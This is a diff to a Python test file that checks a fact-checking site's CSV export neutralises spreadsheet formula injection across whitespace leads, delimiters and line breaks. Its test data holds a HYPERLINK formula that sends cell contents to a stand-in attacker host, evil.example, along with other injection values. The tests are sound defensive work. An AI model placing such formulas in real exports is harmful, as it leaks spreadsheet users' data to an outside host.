@@ -294,8 +294,33 @@ def test_terminal_output_carries_no_control_characters(repo: ScratchRepo, capsys
     assert not any(ord(ch) < 32 and ch not in "\n\t" for ch in out + err)
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
-def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(repo: ScratchRepo, start):
+# What may come before a formula: nothing, or white space a spreadsheet trims (OWASP: tab, carriage return,
+# line feed; also spaces, a no-break space, an ideographic space).
+FORMULA_LEADS = ["", " ", "   ", "\t", "\n", "\u00a0", "\u3000", " \t\n "]
+
+
+def _runs_as_formula(cell: str) -> bool:
+    return cell.lstrip().startswith(("=", "+", "-", "@"))
+
+
+def _unsafe_cells(text: str) -> list[str]:
+    """Cells a spreadsheet would run: read with "," as the data package declares (where, as OWASP says, no cell
+    may start with a tab or line break either), and read with ";" or tabs (other locales' separators) and line by
+    line (where a misread quote would start a row)."""
+    import csv
+    import io
+
+    unsafe = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
+              if _runs_as_formula(cell) or cell.startswith(("\t", "\r", "\n"))]
+    for delimiter in (";", "\t"):
+        unsafe += [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row
+                   if _runs_as_formula(cell)]
+    return unsafe + [line for line in text.splitlines() if _runs_as_formula(line)]
+
+
+@pytest.mark.parametrize("lead", FORMULA_LEADS)
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(repo: ScratchRepo, start, lead):
     import csv
     import io
 
@@ -303,16 +328,35 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(repo: ScratchRep
     from factcheck.publishing import Publisher, SiteInfo
 
     formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
+    claim = f"{lead}{formula}"
+    summary = f'Fine;{lead}{formula}, then\t{lead}{formula} and\n{lead}{formula}"{lead}{formula}'
     repo.source("s", "A text.")
-    repo.claim("c1", "s", "A text", 0, 6, claim=formula.replace("\t", " ").replace("\r", " ") if start in "\t\r" else formula,
-               summary=formula if start not in "\t\r" else "Summary.")
+    repo.claim("c1", "s", "A text", 0, 6, claim=claim, summary=summary)
     model = build_site(load_repository(repo.root))
-    rows = list(csv.DictReader(io.StringIO(export_files(model, SiteInfo("S", "https://e.org/", Publisher("P", "https://e.org/")))["claims.csv"])))
-    for row in rows:
-        for column, value in row.items():
-            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
-    if start not in "\t\r":
-        assert rows[0]["claim"] == "'" + formula
+    text = export_files(model, SiteInfo("S", "https://e.org/", Publisher("P", "https://e.org/")))["claims.csv"]
+    assert _unsafe_cells(text) == []
+    [row] = csv.DictReader(io.StringIO(text, newline=""))
+    # The text is kept, with quote marks where a formula would start.
+    assert row["claim"].replace("'", "") == claim and row["summary"].replace("'", "") == summary
+    if not lead:
+        assert row["claim"] == "'" + formula
+
+
+@pytest.mark.parametrize("value", ["\r=1+1", "\r\n@SUM(A1)", "\t-2", "\tplain", "\n+1", "\u2003+cmd", "\u00a0=1",
+                                   "a;=1", "a;\u00a0-1", "a\r\n+1", "a\t\t@x", "\x00=1"])
+def test_every_cell_a_spreadsheet_would_run_is_neutralised(value):
+    from factcheck.exports import spreadsheet_safe
+
+    safe = spreadsheet_safe(value)
+    assert _unsafe_cells('"' + safe.replace('"', '""') + '"') == []
+    assert safe != value and safe.replace("'", "") == value.replace("'", "")  # quote marks added, nothing else
+
+
+@pytest.mark.parametrize("value", ["a, -2 per cent", "e-mail @ desk", "x = y", "1+1", "'quoted'", "'=1", ""])
+def test_ordinary_text_in_a_csv_cell_is_left_alone(value):
+    from factcheck.exports import spreadsheet_safe
+
+    assert spreadsheet_safe(value) == value
 
 
 # --- Bounded work: no Markdown field can make a build crawl. ---
